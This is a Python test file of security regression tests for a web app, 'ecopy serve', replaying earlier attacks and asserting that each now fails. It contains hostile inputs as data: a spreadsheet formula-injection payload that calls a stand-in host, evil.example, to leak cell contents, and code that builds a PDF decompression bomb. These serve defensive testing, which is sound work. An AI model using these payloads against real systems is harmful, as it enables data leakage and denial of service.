"""The attacks that worked against `ecopy serve` (issue 15), each replayed over HTTP or the
CLI: every one of them must now fail. A test here failing means an attack works again."""

from __future__ import annotations

import csv
import io
import json
import re
import resource
import subprocess
import sys
import time
from dataclasses import replace
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from ecopy import accounts
from ecopy.settings import load_settings
from ecopy.web.app import create_app
from storage.backends import LocalStore
from storage.db.rebuild import sync_catalogue
from storage.evidence.audit import read_events
from storage.evidence.register import RegisterEntry, allocate_register_number
from tests.conftest import CORPUS, PERSON, open_state, run_cli, sign_in

PASSWORD = "mật khẩu đủ dài 2026"
PROXY = ("127.0.0.1", 40000)  # the TLS proxy in front of the app
STAFF = (("lan", "clerk", "11111"), ("hoa", "clerk", "22222"), ("kiem.tra", "auditor", "11111"))


@pytest.fixture
def site(tmp_path: Path, env: dict[str, str]) -> dict:
    store_dir = tmp_path / "store"
    state = open_state(LocalStore(store_dir))
    for user, role, agency in STAFF:
        accounts.create(state.db, user, f"Cán bộ {user}", role, agency, PASSWORD)
    return {"state": state, "dir": store_dir, "env": {**env, "ECOPY_STORE": str(store_dir)}}


def make_app(site: dict, **settings: object):
    base = replace(load_settings(site["env"]), web_secure_cookies=False,
                   web_trusted_proxies="127.0.0.1")
    return create_app(replace(base, **settings), site["state"])


def browser(app, peer: tuple[str, int] = PROXY) -> TestClient:
    return TestClient(app, follow_redirects=False, client=peer)


def login_token(c: TestClient) -> str:
    return re.search(r'name="ltoken" value="([^"]+)"', c.get("/login").text).group(1)


def try_login(c: TestClient, user: str, password: str, via: str = "") -> int:
    headers = {"X-Forwarded-For": via} if via else {}
    token = login_token(c)
    return c.post("/login", data={"username": user, "password": password, "next": "/",
                                  "ltoken": token}, headers=headers).status_code


def audit(site: dict) -> list[dict]:
    return read_events(site["state"].store)


# ------------------------------------------------------------------ login


def test_a_huge_user_name_writes_nothing_big_to_the_audit_log(site: dict) -> None:
    """Was: 10 anonymous posts of a 900,000-character name wrote 18 MB of permanent audit."""
    c = browser(make_app(site))
    before = len(audit(site))
    started = time.monotonic()
    for _ in range(10):
        assert try_login(c, "a" * 900_000, "x") in (401, 422, 429)
    assert time.monotonic() - started < 30
    written = audit(site)[before:]
    assert sum(len(json.dumps(e)) for e in written) < 10_000
    assert all("a" * 100 not in json.dumps(e) for e in written)


def test_throttled_attempts_are_counted_not_audited(site: dict) -> None:
    c = browser(make_app(site, web_login_failures=3))
    before = len(audit(site))
    codes = [try_login(c, "lan", "sai mật khẩu", via="203.0.113.5") for _ in range(30)]
    assert codes[:3] == [401] * 3 and set(codes[3:]) == {429}
    failed = [e for e in audit(site)[before:] if e["details"].get("act") == "login_failed"]
    assert len(failed) == 3  # one per real attempt; the 27 refused ones wrote nothing


def test_behind_a_proxy_one_client_cannot_lock_out_everyone(site: dict) -> None:
    """Was: every client had the proxy's address, so 20 failures locked all staff out."""
    app = make_app(site, web_login_failures=3)
    attacker = browser(app)
    for _ in range(20):
        try_login(attacker, f"doan{_}", "sai", via="203.0.113.5")
        try_login(attacker, "lan", "sai", via="203.0.113.5")
    assert try_login(attacker, "lan", PASSWORD, via="203.0.113.5") == 429
    # a forged address further left changes nothing: the proxy appended the real one
    assert try_login(attacker, "lan", PASSWORD, via="198.51.100.1, 203.0.113.5") == 429
    # the clerk at another address, through the same proxy, signs in
    assert try_login(browser(app), "lan", PASSWORD, via="203.0.113.77") == 303
    assert try_login(browser(app), "hoa", PASSWORD, via="203.0.113.78") == 303
    # a client talking to the app directly cannot pick its address with the header
    direct = browser(app, peer=("192.0.2.10", 5555))
    for _ in range(12):
        try_login(direct, "lan", "sai", via=f"10.0.0.{_}")
    assert try_login(direct, "lan", PASSWORD, via="10.0.0.99") == 429


def test_the_throttle_is_shared_by_every_server_process(site: dict) -> None:
    """Two apps on one database (two `serve --workers` processes) see the same count."""
    first, second = make_app(site, web_login_failures=3), make_app(site, web_login_failures=3)
    for _ in range(3):
        assert try_login(browser(first), "lan", "sai", via="203.0.113.5") == 401
    assert try_login(browser(second), "lan", PASSWORD, via="203.0.113.5") == 429


def test_login_needs_its_own_form_token(site: dict) -> None:
    """Login CSRF: another site's form cannot sign a visitor in to an account it chose."""
    c = browser(make_app(site))
    bare = c.post("/login", data={"username": "lan", "password": PASSWORD, "next": "/"})
    assert bare.status_code == 403 and "ecopy_session" not in bare.headers.get("set-cookie", "")
    login_token(c)  # the cookie is set, but the posted token is another
    forged = c.post("/login", data={"username": "lan", "password": PASSWORD, "next": "/",
                                    "ltoken": "x" * 43})
    assert forged.status_code == 403
    assert try_login(c, "lan", PASSWORD) == 303


def test_a_new_role_or_password_ends_open_sessions(site: dict) -> None:
    app = make_app(site)
    clerk, other = browser(app), browser(app)
    assert sign_in(clerk, "lan", PASSWORD).status_code == 303
    assert sign_in(other, "hoa", PASSWORD).status_code == 303
    assert clerk.get("/dossiers").status_code == 200
    done = run_cli(["user", "role", "lan", "--role", "auditor", "--store", str(site["dir"])],
                   site["env"])
    assert done.returncode == 0, done.stderr
    assert clerk.get("/dossiers").status_code == 303  # back to the sign-in page
    account = accounts.load(site["state"].db, "hoa")
    accounts.set_password(site["state"].db, account, "một mật khẩu mới 2026")
    assert other.get("/dossiers").status_code == 303


# ------------------------------------------------------------------ request bodies


def test_no_request_body_over_the_total_cap(site: dict) -> None:
    c = browser(make_app(site, web_max_request_bytes=1_000_000))
    assert sign_in(c, "lan", PASSWORD).status_code == 303
    declared = c.post("/dossiers/search", content=b"q=" + b"a" * 2_000_000,
                      headers={"Content-Type": "application/x-www-form-urlencoded"})
    assert declared.status_code == 413
    sent = []

    def chunks():  # no Content-Length: the body is cut where it crosses the cap
        for _ in range(40):
            sent.append(1)
            yield b"a" * 100_000

    streamed = c.post("/dossiers/search", content=chunks(),
                      headers={"Content-Type": "application/x-www-form-urlencoded"})
    assert streamed.status_code == 413


def test_an_upload_is_not_read_before_its_csrf_check(site: dict) -> None:
    """Was: a multipart body of ~10 GB was streamed to /tmp before the token in it was read."""
    app = make_app(site)
    c = browser(app)
    assert sign_in(c, "lan", PASSWORD).status_code == 303
    token = re.search(r'name="csrf" value="([^"]+)"', c.get("/dossiers").text).group(1)
    made = c.post("/dossiers", data={"csrf": token, "person_id": PERSON,
                                     "person_name": "Trần Văn An", "date_of_birth": "",
                                     "channel": "counter", "procedure": ""})
    assert made.status_code == 303, made.text
    sent = []

    def body():
        yield b"--b\r\nContent-Disposition: form-data; name=\"files\"; filename=\"a.jpg\"\r\n\r\n"
        for _ in range(1000):
            sent.append(1)
            yield b"\xff" * 1_000_000

    refused = c.post(made.headers["location"] + "/upload", content=body(),
                     headers={"Content-Type": "multipart/form-data; boundary=b"})
    assert refused.status_code == 403 and len(sent) <= 1


# ------------------------------------------------------------------ the anonymous verify page


def _verify_post(c: TestClient, data: bytes):
    page = c.get("/verify")
    token = re.search(r'name="vtoken" value="([^"]+)"', page.text).group(1)
    return c.post("/verify", data={"vtoken": token},
                  files={"file": ("x.pdf", data, "application/pdf")})


def test_anonymous_verify_has_its_own_small_limit(site: dict) -> None:
    """Was: 190 MB of zeros took 147 s and 500 MB of server memory."""
    app = make_app(site, web_verify_max_bytes=2_000_000)
    started = time.monotonic()
    r = _verify_post(browser(app), b"%PDF-1.7\n" + b"\0" * 5_000_000)
    assert r.status_code == 413 and "2 MB" in r.text
    assert time.monotonic() - started < 20
    assert load_settings({}).web_verify_max_bytes == 25_000_000  # the default


def test_a_verification_runs_within_time_and_memory_limits(site: dict,
                                                           tmp_path: Path) -> None:
    signed = CORPUS / "node-signpdf" / "signed-once.pdf"  # signed by other software
    pdf = signed.read_bytes()
    fine = _verify_post(browser(make_app(site)), pdf)
    assert fine.status_code == 200 and 'data-testid="verify-result"' in fine.text
    slow = _verify_post(browser(make_app(site, web_verify_timeout_s=0)), pdf)
    assert slow.status_code == 422 and "thời gian cho phép" in slow.text
    # 190 kB that a PDF reader inflates to 100 MB (a string in a compressed object stream),
    # made in another process so that this one never held it
    bomb = Path(tmp_path) / "bomb.pdf"
    subprocess.run([sys.executable, "-c", (
        "import pikepdf, sys; p = pikepdf.new(); p.add_blank_page(); "
        "p.Root.Big = pikepdf.String(bytes(100_000_000)); "
        "p.save(sys.argv[1], object_stream_mode=pikepdf.ObjectStreamMode.generate)"),
        str(bomb)], check=True, timeout=120)
    peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss  # KiB
    answered = _verify_post(browser(make_app(site, web_verify_memory_mb=300)),
                            bomb.read_bytes())
    assert answered.status_code in (200, 422)
    assert 'data-indication="TOTAL-PASSED"' not in answered.text
    # the 100 MB were taken (or refused) in the child: the server did not grow by them
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - peak < 50_000


# ------------------------------------------------------------------ exports and URLs


def test_register_csv_cells_are_never_formulas(site: dict) -> None:
    """Was: a requester named =HYPERLINK(...) was exported as a live formula."""
    store, year = site["state"].store, 2026
    names = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm")', "+84 1", "-1+1", "@SUM(1)",
             "\tTab", "Trần Văn An"]
    for i, name in enumerate(names):

        def make(n: int, h: str, i: int = i, name: str = name) -> RegisterEntry:
            return RegisterEntry(
                agency_code="11111", agency_name="Ủy ban nhân dân xã Thử", year=year,
                book=f"01/{year}", number=n, date=f"{year}-10-0{i + 1}", requester_name=name,
                document_name="Giấy khai sinh", signer="Nguyễn Văn Thử", copies=1,
                fee_vnd=2000, electronic=True, notes="", copy_id=f"copy{i:04d}", prev_hash=h)

        allocate_register_number(store, agency_code="11111", year=year, make_entry=make)
    sync_catalogue(store, site["state"].db, repair=True)
    c = browser(make_app(site))
    assert sign_in(c, "kiem.tra", PASSWORD).status_code == 303
    got = c.get(f"/register/export?year={year}&month=10&format=csv")
    assert got.status_code == 200
    rows = list(csv.reader(io.StringIO(got.content.decode("utf-8-sig"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Bấm\")" in cells
    assert "Trần Văn An" in cells  # ordinary names untouched


def test_no_personal_id_in_a_staff_url(site: dict) -> None:
    """Was: /warehouse/<personal ID> put the ID into every proxy's access log."""
    c = browser(make_app(site))
    assert sign_in(c, "lan", PASSWORD).status_code == 303
    assert c.get(f"/warehouse/{PERSON}").status_code == 404
    assert c.get(f"/warehouse?person_id={PERSON}").text.count(PERSON) == 0
    token = re.search(r'name="csrf" value="([^"]+)"', c.get("/warehouse").text).group(1)
    page = c.post("/warehouse", data={"csrf": token, "person_id": PERSON})
    assert page.status_code == 200 and PERSON in page.text
    links = re.findall(r'(?:href|action|src)="([^"]*)"', page.text)
    assert links and not [link for link in links if PERSON in link]
    assert c.post("/warehouse", data={"person_id": PERSON}).status_code == 403  # CSRF


def test_tokens_with_any_characters_are_refused_not_crashed(site: dict) -> None:
    """A token compared with hmac.compare_digest as text raises on non-ASCII: a 500 for a
    forged form. Every form token is compared as bytes."""
    app = make_app(site)
    c = browser(app)
    login_token(c)
    assert c.post("/login", data={"username": "lan", "password": PASSWORD,
                                  "ltoken": "ừ" * 43}).status_code == 403
    assert sign_in(c, "lan", PASSWORD).status_code == 303
    assert c.post("/dossiers/search", data={"csrf": "ừ" * 43, "q": "x"}).status_code == 403
    c.get("/verify")
    assert c.post("/verify", data={"vtoken": "ừ" * 43},
                  files={"file": ("a.pdf", b"%PDF-1.7", "application/pdf")}).status_code == 403
    c.get("/complaints/new")
    assert c.post("/complaints/new", data={"ftoken": "ừ.ừ.ừ", "text": "x"}).status_code == 403


# ------------------------------------------------------------------ the deployment


def test_compose_keeps_keys_off_the_web_and_redis_behind_a_password() -> None:
    """Was: the internet-facing web container mounted the signing keys, and Redis took any
    client. (One S3 identity per service: tests/test_s3_identities.py.)"""
    from tests.test_s3_identities import _compose_services

    services = _compose_services()
    holders = {name for name, block in services.items() if "pki:" in block}
    assert holders == {"worker-sign"}  # the only service with the signing keys
    assert "ECOPY_KEY_SOURCE" not in services["web"] and "P12" not in services["web"]
    assert "requirepass" in services["redis"] and "redis_password" in services["redis"]
    assert "REDISCLI_AUTH" in services["redis"]  # the health check signs in too
    anchor = (Path(__file__).parents[1] / "docker-compose.yml").read_text().split(
        "\nservices:\n")[0]
    assert "ECOPY_REDIS_PASSWORD_FILE: /run/secrets/redis_password" in anchor
    assert re.search(r"secrets: \[[^\]]*redis_password", anchor)
